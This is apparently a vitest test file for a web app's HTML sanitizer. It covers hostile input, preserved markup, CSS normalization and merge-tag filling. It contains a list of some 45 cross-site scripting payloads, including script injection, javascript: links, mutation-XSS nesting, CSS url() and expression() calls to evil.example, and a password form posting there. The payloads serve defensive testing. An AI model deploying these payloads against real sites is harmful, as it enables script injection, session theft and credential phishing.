import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { fillHtmlTags, hasOwnColors, hasOwnLook, styleRulesOf } from '~/domain/sanitized-html';
import { sanitize } from '~/lib/safe-html.server';
import { HOSTILE_HTML } from '../support/hostile-html';

const HOSTILE = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<img src=x onerror=alert(1)>',
  '<img src="data:image/png;base64,AAAA" onerror=alert(1)>',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="https://evil.example/pixel.gif">',
  '<img src="//evil.example/pixel.gif">',
  '<img src="/\\evil.example/pixel.gif">',
  '<img src="/\t/evil.example/pixel.gif">',
  '<img srcset="https://evil.example/x 1x" src="data:image/png;base64,AAAA">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript&colon;alert(1)">x</a>',
  '<a href=" \u0001javascript:alert(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="https://x.example" onclick="alert(1)" target="_top" id="main">x</a>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="background:url(https://evil.example/x)">x</p>',
  '<iframe src="https://evil.example"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x"></object><embed src="x"><applet code="x"></applet>',
  '<form action="https://evil.example"><input name="password"><button>go</button></form>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example"><link rel="stylesheet" href="x">',
  '<body onload=alert(1)><video src=x onerror=alert(1)></video><details open ontoggle=alert(1)>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template><slot name=x></slot>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="&quot;><script>alert(1)</script>">x</p>',
  '<p title=\'" onmouseover="alert(1)\'>x</p>',
  '<a title="bee-\u0022 onclick=alert(1)" class="bee-&quot; onclick=alert(1)">x</a>',
  '<b <script>alert(1)</script>',
  '<p\u0000 onclick=alert(1)>x</p>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<p data-style="position:fixed" style="position:fixed;top:0;z-index:9;margin:-99px;behavior:url(x);-moz-binding:url(x)">x</p>',
  '<p style="color:red}body{display:none;background:u\\72l(//evil.example);width:expression(alert(1));width:calc(1px)">x</p>',
  '<td bgcolor="red;position:fixed" width="1\u0022 onclick=alert(1)" cellpadding="9)} *{" align="url(x)">x</td>',
  '<table border="1]{}" cellpadding="1&quot;]{}"><tr><td>x</td></tr></table><font color="url(x)">x</font>',
];

/** The tags of clean HTML, as [name, attributes]; text is between them. */
function tagsOf(html: string): [string, Record<string, string>][] {
  return [...html.matchAll(/<([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/g)].map(
    ([, name = '', rest = '']) => [
      name,
      Object.fromEntries(
        [...rest.matchAll(/([a-z-]+)(?:="([^"]*)")?/g)].map(([, key = '', value = '']) => [key, value]),
      ),
    ],
  );
}

const ATTRIBUTES = new Set([
  'class',
  'dir',
  'lang',
  'title',
  'href',
  'rel',
  'src',
  'alt',
  'width',
  'height',
  'colspan',
  'rowspan',
  'scope',
  'open',
  'data-border',
  'data-cellpadding',
  'data-style',
]);
const SCHEMES = ['http:', 'https:', 'mailto:', 'tel:'];
const FORBIDDEN =
  /^(script|style|iframe|object|embed|applet|form|input|button|textarea|select|base|meta|link|svg|math|body|video|audio|template|slot|noscript|h1)$/;

/** What a browser on the site makes of an address; the site's own where it makes nothing. */
function schemeOf(href: string): string {
  const address = href
    .replace(/&quot;/g, '"')
    .replace(/&lt;/g, '<')
    .replace(/&gt;/g, '>')
    .replace(/&amp;/g, '&');
  return URL.canParse(address, 'https://site.example/') ? new URL(address, 'https://site.example/').protocol : 'https:';
}

function expectHarmless(html: string): void {
  const clean = sanitize(html);
  // Every "<" belongs to a tag that was judged below, or closes one.
  const rest = clean
    .replace(/<\/[a-z][a-z0-9]*>/g, '')
    .replace(/<([a-z][a-z0-9]*)((?:\s+[a-z-]+(?:="[^"]*")?)*)\s*\/?>/g, '');
  expect(rest, clean).not.toContain('<');
  for (const [name, attributes] of tagsOf(clean)) {
    expect(name, clean).not.toMatch(FORBIDDEN);
    for (const key of Object.keys(attributes)) expect(ATTRIBUTES, clean).toContain(key);
    if (attributes.href !== undefined) expect(SCHEMES, clean).toContain(schemeOf(attributes.href));
    if (attributes['data-style'] !== undefined)
      expect(attributes['data-style'], clean).toMatch(/^[a-z-]+:[a-z\d #%.,()-]+(;[a-z-]+:[a-z\d #%.,()-]+)*$/);
    expect(attributes['data-style'] ?? '', clean).not.toMatch(/url|expression|position|behavior|:-|\(.*\(/);
    if (name === 'img') expect(attributes.src, clean).toMatch(/^(data:image\/(png|jpeg|gif|webp);|\/(?![/\\]))/);
  }
}

describe('hostile HTML', () => {
  test.each(HOSTILE)('%s', (html) => expectHarmless(html));

  test('stays harmless nested, joined and cleaned twice', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE),
      fc.constantFrom(
        '<p>',
        '</p>',
        '<b>',
        '"',
        "'",
        '>',
        '<',
        '<!--',
        '-->',
        '<table><td>',
        '</table>',
        '<a href="',
        'x',
      ),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 6 }), (pieces) => {
        const html = pieces.join('');
        expectHarmless(html);
        expectHarmless(sanitize(html));
      }),
      { numRuns: 400 },
    );
  });
});

test('what an account closes or leaves open does not reach the page around it', () => {
  expect(sanitize('</div></main></body>x')).toBe('x');
  expect(sanitize('<div><p>x')).toBe('<div><p>x</p></div>');
});

describe('honest HTML', () => {
  test('stays as it is', () => {
    const html =
      '<h2>Terms</h2><p lang="de" dir="ltr">A <b>bold</b> word<br /><img alt="Logo" src="/logo.svg" width="40" /></p><table><tr><td colspan="2">1 &lt; 2</td></tr></table>';
    expect(sanitize(html)).toBe(html);
  });

  test('a heading of the first rank gives way to the page’s own, a picture gets a text', () => {
    expect(sanitize('<h1>Title</h1><img src="data:image/png;base64,AAAA">')).toBe(
      '<h2>Title</h2><img alt="" src="data:image/png;base64,AAAA" />',
    );
  });

  test('a link leads where it says, without power over the page', () => {
    for (const href of [
      'https://x.example/a?b=1&amp;c=2',
      'mailto:help@x.example',
      'tel:+13125550100',
      '/demo',
      '#top',
    ]) {
      expect(sanitize(`<a href="${href}">x</a>`)).toBe(`<a href="${href}" rel="noopener nofollow">x</a>`);
    }
  });

  test('the editor’s classes get the prefix of their place; its word elsewhere is left alone', () => {
    const html =
      '<p class="bee-row bee-row-1 other" title="bee-line">A bee-keeper’s <a href="https://x.example/bee-hive" rel="noopener nofollow">bee-hive</a></p>';
    expect(sanitize(html, 'footer-')).toBe(html.replace('bee-row bee-row-1', 'footer-row footer-row-1'));
    expect(sanitize('<p class="bee-row">x</p>')).toBe('<p class="block-row">x</p>');
    expect(sanitize('<p class="bee-row">x</p>', 'header-')).toBe('<p class="header-row">x</p>');
  });

  test('very long HTML is cleaned in one go', () => {
    // What began again at each part would not end within the runner's limit.
    for (const each of [' class="bee-x', '<p>', '<', '&lt;', '"', '<a href="', '<!--'])
      expect(() => sanitize(each.repeat(Math.floor(200_000 / each.length)))).not.toThrow();
  });
});

describe('looks', () => {
  const styled = (style: string) => /data-style="([^"]*)"/.exec(sanitize(`<p style="${style}">x</p>`))?.[1] ?? '';

  test.each([
    ['color: #C00; FONT-SIZE: 18px', 'color:#c00;font-size:18px'],
    [
      'text-align:center;padding:10px 5px 0 5px;margin:0 auto',
      'text-align:center;padding:10px 5px 0 5px;margin:0 auto',
    ],
    [
      'background: rgb(1, 2, 3); border-top:1px solid #ddd !important',
      'background-color:rgb(1, 2, 3);border-top:1px solid #ddd',
    ],
    [
      "font-family:'Open Sans', Arial, sans-serif;line-height:1.5",
      'font-family:open sans, arial, sans-serif;line-height:1.5',
    ],
    ['color:red;color:blue', 'color:blue'],
    ['background:url(https://evil.example/a.png);color:red', 'color:red'],
    ['background:u\\72l(https://evil.example/b.png)', ''],
    ['position:fixed;top:0;z-index:9;margin:-10px;width:calc(1px + 1px);width:expression(1);behavior:url(x)', ''],
    ['color:red}*{color:blue', ''],
    ['color:red/**/;--x:1;content:attr(x)', ''],
  ])('%s', (style, expected) => expect(styled(style)).toBe(expected));

  test('an own carrier is not believed', () => {
    expect(sanitize('<p data-style="position:fixed" data-hidden>x</p>')).toBe('<p>x</p>');
  });

  test('old attributes say the same, and an own style wins over them', () => {
    expect(
      sanitize(
        '<table align="center" width="500" cellpadding="10" border="0"><tr><td align="right" bgcolor="#eee" valign="middle" width="50%">x</td></tr></table>',
      ),
    ).toBe(
      '<table data-cellpadding="10" data-border="0" data-style="margin:0 auto;width:500px"><tr><td data-style="background-color:#eee;vertical-align:middle;text-align:right;width:50%">x</td></tr></table>',
    );
    expect(sanitize('<td align="right" style="text-align:left"><font color="#123456">x</font></td>')).toBe(
      '<td data-style="text-align:left"><span data-style="color:#123456">x</span></td>',
    );
  });

  test('what leads nowhere is words, and old elements are those of today', () => {
    expect(
      sanitize('<a href="javascript:alert(1)">one</a> <a name="x">two</a> <a href="java\nscript:alert(1)">three</a>'),
    ).toBe('<span>one</span> <span>two</span> <span>three</span>');
    expect(
      sanitize(
        '<a href="/x">1</a><a href="mailto:a@b.example">2</a><a href="#top">3</a><a href="shop.html">4</a>',
      ).match(/href=/g),
    ).toHaveLength(4);
    expect(sanitize('<center>x</center><font color="red">y</font>')).toBe(
      '<div data-style="text-align:center">x</div><span data-style="color:red">y</span>',
    );
  });

  test('what an author hides is left out; what unfolds stays', () => {
    expect(sanitize('<div style="display:none">for phones</div><p>x</p>')).toBe('<p>x</p>');
    expect(sanitize('<details open><summary>More</summary>text</details>')).toBe(
      '<details open><summary>More</summary>text</details>',
    );
  });

  test('a picture that can’t be shown leaves its text', () => {
    expect(
      sanitize(
        '<a href="https://x.example"><img src="https://cdn.example/a.png" alt="Our &quot;spring&quot; offer"></a>',
      ),
    ).toBe(
      '<a href="https://x.example" rel="noopener nofollow"><span class="no-picture">Our "spring" offer</span></a>',
    );
    expect(
      sanitize(
        '<p><img src="https://cdn.example/a.png" alt=" ">a<img src="x" alt="b">c<img class="no-picture" src="y">d<img src="z" alt="e" style="display:none">f</p>',
      ),
    ).toBe('<p>a<span class="no-picture">b</span>cdf</p>');
  });

  test('the sheet has a rule for each style once, and for the cells of a table', () => {
    const html = sanitize(
      '<table cellpadding="4" border="1"><tr><td style="color:red">a</td><td style="color:red">b</td></tr></table>',
    );
    expect(styleRulesOf(html, html).slice(1)).toEqual([
      '[data-style="color:red"]{color:red}',
      ':where([data-cellpadding="4"]>*)>tr>*{padding:4px}',
      ':where([data-border="1"]>*)>tr>*{border:1px solid}',
    ]);
    expect(hasOwnColors(html)).toBe(true);
    expect(hasOwnColors(sanitize('<p style="text-align:center">x</p>'))).toBe(false);
    const plain = sanitize('<p title="&quot; data-style=&quot;color:red">x</p>');
    expect([hasOwnLook(html), hasOwnLook(plain), styleRulesOf(plain)]).toEqual([true, false, []]);
  });

  test('no hostile HTML gets anything into the sheet that loads, covers or ends it', () => {
    for (const html of [...HOSTILE, ...HOSTILE_HTML]) {
      const styleRules = styleRulesOf(sanitize(html)).slice(1).join('');
      expect(styleRules, html).not.toMatch(/url|@|expression|position|[<\\]|:-\d/);
      expect(
        styleRules.replace(
          /(?:\[data-style="[^"{}]*"\]|:where\(\[data-(?:border|cellpadding)="\d+"\]>\*\)>tr>\*)\{[^{}]*\}/g,
          '',
        ),
        html,
      ).toBe('');
    }
  });
});

describe('merge tags', () => {
  const tags = [
    { name: 'Customer name', value: 'Maya <b>& "Co"</b>' },
    { name: 'A & B', value: '{{Customer name}}' },
  ];
  test.each([
    ['<p>Dear {{Customer name}},</p>', '<p>Dear Maya &lt;b&gt;&amp; &quot;Co&quot;&lt;/b&gt;,</p>'],
    ['<p>{{ Customer&nbsp;name }}</p>', '<p>Maya &lt;b&gt;&amp; &quot;Co&quot;&lt;/b&gt;</p>'],
    ['<p>{{A &amp; B}}</p>', '<p>{{Customer name}}</p>'],
    ['<p>{{Nobody}}|{{}}|{{constructor}}</p>', '<p>|{{}}|</p>'],
    [
      '<a href="https://x.example/{{Customer name}}">{{Customer name</a>',
      '<a href="https://x.example/{{Customer name}}" rel="noopener nofollow">{{Customer name</a>',
    ],
  ])('%s', (html, filled) => expect(fillHtmlTags(sanitize(html), tags)).toBe(filled));
});
